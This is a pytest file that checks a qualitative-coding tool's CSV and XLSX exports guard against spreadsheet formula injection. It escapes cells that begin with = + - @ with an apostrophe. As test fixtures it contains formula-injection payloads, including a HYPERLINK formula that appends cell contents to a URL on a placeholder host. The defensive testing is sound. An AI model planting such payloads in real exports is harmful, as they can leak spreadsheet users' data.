"""Every table nlp-theming writes goes through one guarded writer: no cell becomes a formula.

A transcript, a code name or a document attribute that starts with = + - @ (``=HYPERLINK(...)``
can send data away when a spreadsheet opens the file) stays text in every CSV and XLSX output.
The project here is real (ingested, segmented, a codebook loaded); its one suggestion run is
written through the store's own run functions, so no embedding model is needed.
"""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from nlp_theming import Project
from nlp_theming.exchange.coded import read_coded_units_csv, read_span_csv, write_coded_units_csv, write_span_csv
from nlp_theming.review import accept
from nlp_theming.tables import (
    FORMULA_START,
    formula_safe,
    formula_unsafe,
    write_csv,
    write_table,
    write_xlsx,
)
from tests.helpers.runs import store_run

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+44 20 7946 0000", "-1+2", "@SUM(A1:A9)"]

TRANSCRIPT = """Interviewer: What happens at the board?
P1: =HYPERLINK("http://example.invalid/?x="&A1,"click") is what someone typed into the minutes once.
Interviewer: And the phone line?
P1: +44 20 7946 0000 was the number, and the budget line said -1+2 which nobody understood.
Interviewer: Anything else?
P1: @SUM(A1:A9) appeared in a report, and we laughed about it at the clinical directors' meeting.
"""

CODEBOOK = """code,description,parent
Process,How things work,
=Danger,A code whose name looks like a formula,Process
Workload,Time and effort,Process
"""


def hostile(value: object) -> bool:
    """A cell a spreadsheet would run: text that starts with a formula character (a negative
    number written as a number is read as one)."""
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return False
    try:
        float(value)
    except ValueError:
        return True
    return False


def csv_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8-sig") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def assert_csv_guarded(path: Path, expect: str = "=HYPERLINK") -> None:
    cells = csv_cells(path)
    assert not [c for c in cells if hostile(c)], f"{path.name}: a cell would run as a formula"
    # and the hostile text is there, guarded, not dropped
    assert any(c.startswith("'" + expect) for c in cells), f"{path.name}: no guarded {expect!r} cell"


def assert_xlsx_guarded(path: Path, expect: str = "=HYPERLINK") -> None:
    wb = openpyxl.load_workbook(path)
    seen = False
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}!{ws.title}!{cell.coordinate} is a formula"
                seen = seen or (isinstance(cell.value, str) and cell.value.startswith(expect))
    assert seen, f"{path.name}: no {expect!r} text cell"


@pytest.fixture
def hostile_project(tmp_path: Path) -> Project:
    folder = tmp_path / "transcripts"
    folder.mkdir()
    (folder / "board-1.txt").write_text(TRANSCRIPT, encoding="utf-8")
    (folder / "manifest.csv").write_text("file,site,role\nboard-1.txt,=A1+1,@board\n", encoding="utf-8")
    (tmp_path / "codebook.csv").write_text(CODEBOOK, encoding="utf-8")
    p = Project.init(tmp_path / "project")
    report = p.ingest([folder], folder / "manifest.csv")
    assert report.failed == []
    p.load_codebook(tmp_path / "codebook.csv")
    segs = p.segments()
    segs = segs[segs.speaker_role == "participant"]
    assert len(segs) == 3
    run_id = store_run(p, [(s, code, score) for s in segs.segment_id for code, score in (("=Danger", 0.9),
                                                                                         ("Workload", 0.3))])
    for s in segs.segment_id:
        accept(p.con, "ana", int(s), "=Danger", run_id)
    yield p
    p.close()


def test_cells_starting_with_formula_characters_get_an_apostrophe() -> None:
    for text in [*HOSTILE, "\tx", "\rx"]:
        assert formula_safe(text) == "'" + text and formula_unsafe(formula_safe(text)) == text
    assert formula_safe("plain") == "plain" and formula_safe(-1) == -1 and formula_unsafe("'quoted") == "'quoted"


def test_table_writers_guard_csv_and_xlsx(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=header": HOSTILE, "n": [1, 2, 3, 4]})
    assert_csv_guarded(write_csv(frame, tmp_path / "a.csv"))
    assert_csv_guarded(write_table(frame, tmp_path / "b.csv"))
    assert_xlsx_guarded(write_xlsx(frame, tmp_path / "c.xlsx"))
    assert_xlsx_guarded(write_table(frame, tmp_path / "d.xlsx"))
    back = pd.read_parquet(write_table(frame, tmp_path / "e.parquet"))
    assert back["=header"].tolist() == HOSTILE  # Parquet is for programs: values as they are
    with pytest.raises(ValueError, match="unknown table format"):
        write_table(frame, tmp_path / "f.txt")


def test_export_csv_and_xlsx_are_guarded(hostile_project: Project, tmp_path: Path) -> None:
    assert_csv_guarded(hostile_project.export(tmp_path / "s.csv"))
    assert_xlsx_guarded(hostile_project.export(tmp_path / "s.xlsx"))
    # a code name and document attributes are data too
    cells = csv_cells(tmp_path / "s.csv")
    assert "'=Danger" in cells and "'=A1+1" in cells and "'@board" in cells


def test_review_sheets_are_guarded_and_read_back(hostile_project: Project, tmp_path: Path) -> None:
    path = hostile_project.export_sheet("bo", tmp_path / "sheet.csv")
    assert_csv_guarded(path)
    assert_xlsx_guarded(hostile_project.export_sheet("bo", tmp_path / "sheet.xlsx"))
    frame = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    frame.loc[:, "decision"] = "reject"
    frame.to_csv(path, index=False)  # as a person's spreadsheet program would save it
    report = hostile_project.import_sheet(path, "bo")
    assert report.problems == [] and report.recorded == len(frame)


def test_coded_units_and_span_files_are_guarded_and_read_back(hostile_project: Project, tmp_path: Path) -> None:
    units = hostile_project.coded_units(tmp_path / "units.csv")
    assert_csv_guarded(tmp_path / "units.csv")
    back = read_coded_units_csv(tmp_path / "units.csv")
    assert sorted(back.text) == sorted(units.text)  # the apostrophe is ours, and removed on reading
    spans = pd.DataFrame({"document": ["=doc"], "start": [0], "end": [5], "code": ["@code"], "coder": ["+ana"],
                          "text": ["=HYPERLINK(1)"]})
    write_span_csv(spans, tmp_path / "spans.csv")
    assert_csv_guarded(tmp_path / "spans.csv")
    again = read_span_csv(tmp_path / "spans.csv")
    assert again.loc[0, "document"] == "=doc" and again.loc[0, "code"] == "@code" and again.loc[0, "coder"] == "+ana"
    write_coded_units_csv(pd.DataFrame({"unit_id": ["-1"], "document": ["d"], "coder": ["c"], "text": ["=x"],
                                        "codes": [["@a"]]}), tmp_path / "u2.csv")
    assert not [c for c in csv_cells(tmp_path / "u2.csv") if hostile(c)]


@pytest.mark.slow
def test_summary_tables_and_workbook_are_guarded(hostile_project: Project, tmp_path: Path) -> None:
    out = tmp_path / "summary"
    hostile_project.summarize(by="site", out=out)
    assert_csv_guarded(out / "tidy.csv")
    for table in (out / "tables").glob("*.csv"):
        assert not [c for c in csv_cells(table) if hostile(c)], table.name
    assert_xlsx_guarded(out / "summary.xlsx")


def test_a_sheet_saved_by_european_excel_reads_back(hostile_project: Project, tmp_path: Path) -> None:
    """Semicolons, cp1252 and a header written "Segment ID": the sheet still imports."""
    path = hostile_project.export_sheet("cy", tmp_path / "sheet.csv")
    frame = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    frame.loc[:, "decision"] = "accept"
    frame = frame.rename(columns={"segment_id": "Segment ID"})
    path.write_bytes(frame.to_csv(index=False, sep=";").encode("cp1252", errors="replace"))
    report = hostile_project.import_sheet(path, "cy")
    assert report.problems == [] and report.recorded == len(frame)
